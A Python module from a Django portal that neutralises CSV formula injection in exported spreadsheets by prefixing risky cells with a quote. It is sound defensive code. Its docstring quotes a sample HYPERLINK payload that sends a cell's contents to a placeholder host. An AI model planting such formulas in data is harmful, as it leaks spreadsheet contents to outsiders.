"""CSV files the portal hands out, safe to open in a spreadsheet program.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read by Excel, LibreOffice and Google Sheets as a formula (CSV
injection: ``=HYPERLINK("http://x/"&A1,"Click")`` in a delegate's name).
OWASP's rule: prefix such a cell with a single quote, so the program shows
the text as typed. Every CSV export goes through :func:`csv_bytes`, which
applies the rule to every cell, or :func:`safe_cell` for one value; a view
or admin action hands its rows to :func:`csv_response`, which also sets the
content type and the ``Content-Disposition`` (built by Django, so a Cyrillic
file name reaches the browser intact), never by hand.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from django.http import HttpResponse
from django.utils.http import content_disposition_header

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"


def safe_cell(value: Any) -> str:
    """The cell's text, with a leading ``'`` if a spreadsheet would read it
    as a formula. Numbers are written as they are (a negative number is data,
    not a formula); ``None`` is an empty cell."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """UTF-8 with a byte order mark (so spreadsheet programs read the
    Cyrillic), every cell neutralised by :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def csv_response(
    *, filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]
) -> HttpResponse:
    """A CSV download: the header row, then the rows, written by
    :func:`csv_bytes`, as an attachment named ``filename``. Django's
    ``content_disposition_header`` quotes an ASCII name and writes any other
    as RFC 6266's ``filename*=utf-8''...``, the one place either is done."""
    response = HttpResponse(csv_bytes([header, *rows]), content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response
